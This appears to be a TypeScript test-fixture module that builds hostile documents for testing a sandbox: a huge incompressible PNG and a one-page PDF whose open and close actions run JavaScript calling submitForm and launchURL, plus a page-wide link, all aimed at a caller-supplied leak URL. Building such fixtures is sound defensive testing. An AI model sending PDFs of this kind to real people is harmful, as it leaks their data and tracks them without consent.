/** Binary payloads for the hostile documents: a very large PNG and a PDF that tries to run script and phone home. */
import { deflateSync } from "node:zlib";
import { crc32, PNG_SIGNATURE } from "../../sandbox/data/png";

function chunk(type: string, data: Uint8Array): Buffer {
  const out = Buffer.alloc(12 + data.length);
  out.writeUInt32BE(data.length, 0);
  out.write(type, 4, "latin1");
  out.set(data, 8);
  out.writeUInt32BE(crc32(out.subarray(4, 8 + data.length)), 8 + data.length);
  return out;
}

/**
 * A real, decodable RGB PNG of about `bytes` bytes: square, filled with deterministic noise that deflate cannot
 * shrink, so the file is as big as the issue asks and the picture is thousands of pixels wide.
 */
export function bigPng(bytes: number): Uint8Array {
  const side = Math.max(1, Math.ceil(Math.sqrt(bytes / 3)));
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const raw = Buffer.alloc(side * (side * 3 + 1));
  let state = 0x9e3779b9;
  for (let i = 0; i < raw.length; i++) {
    // xorshift32: fast, deterministic, incompressible enough
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    raw[i] = i % (side * 3 + 1) === 0 ? 0 : state & 0xff;
  }
  return Buffer.concat([
    PNG_SIGNATURE,
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(raw, { level: 1 })),
    chunk("IEND", new Uint8Array()),
  ]);
}

/** A one-page PDF whose OpenAction runs JavaScript and whose page has a link to `leakUrl`. */
export function hostilePdf(leakUrl: string): Uint8Array {
  const stream = "BT /F1 14 Tf 72 720 Td (Hostile PDF: script and link actions) Tj ET";
  const js = `app.alert('pdf'); this.submitForm('${leakUrl}'); app.launchURL('${leakUrl}', true);`;
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /Annots [7 0 R] >>",
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    `<< /Type /Action /S /JavaScript /JS (${js}) >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (${leakUrl}) >> >>`,
  ];
  let body = "%PDF-1.7\n";
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, "0")} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}
